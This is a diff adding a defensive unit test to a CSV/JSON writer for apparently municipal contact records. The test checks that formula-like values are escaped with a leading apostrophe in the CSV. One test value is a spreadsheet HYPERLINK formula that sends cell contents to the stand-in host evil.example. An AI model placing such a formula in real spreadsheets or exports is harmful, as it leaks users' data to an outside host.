@@ -46,6 +46,21 @@ describe('MasterDataFiles', () => {
     expect(readFileSync(join(root, '132012', 'v1.csv'), 'utf8')).toContain('132012,1,' + hashOf(content) + ',contacts[0].department,"情報管理課, 情報連携係"\r\n');
   });
 
+  it('a value a spreadsheet would run as a formula is written to the CSV with a leading apostrophe, and as it is to the JSON', async () => {
+    const files = writer(root);
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"情報管理課")';
+    const risky = { ...content, contacts: [{ department: formula, phone: '0426207200' }, { department: '+1', phone: '@x' }, { department: '-', phone: '\t=1' }] };
+    expect(await files.publish(event(1, { content: risky, contentHash: hashOf(risky) }))).toMatchObject({ kind: 'written' });
+    const csv = readFileSync(join(root, '132012', 'v1.csv'), 'utf8');
+    expect(csv).toContain(`,contacts[0].department,"'=HYPERLINK(""http://evil.example/?x=""&A1,""情報管理課"")"\r\n`);
+    expect(csv).toContain(",contacts[1].department,'+1\r\n");
+    expect(csv).toContain(",contacts[1].phone,'@x\r\n");
+    expect(csv).toContain(",contacts[2].department,'-\r\n");
+    expect(csv).toContain(",contacts[2].phone,'\t=1\r\n");
+    expect(csv).toContain(',contacts[0].phone,0426207200\r\n');
+    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8')).content.contacts[0].department).toBe(formula);
+  });
+
   it('content sent with a person withheld (［利用停止中］) is checked against its publishedContentHash, not refused for its contentHash; without it, or with a wrong one, it is refused', async () => {
     const files = writer(root);
     const withheld = { ...content, contacts: [{ department: '情報管理課, 情報連携係', phone: '［利用停止中］' }] };
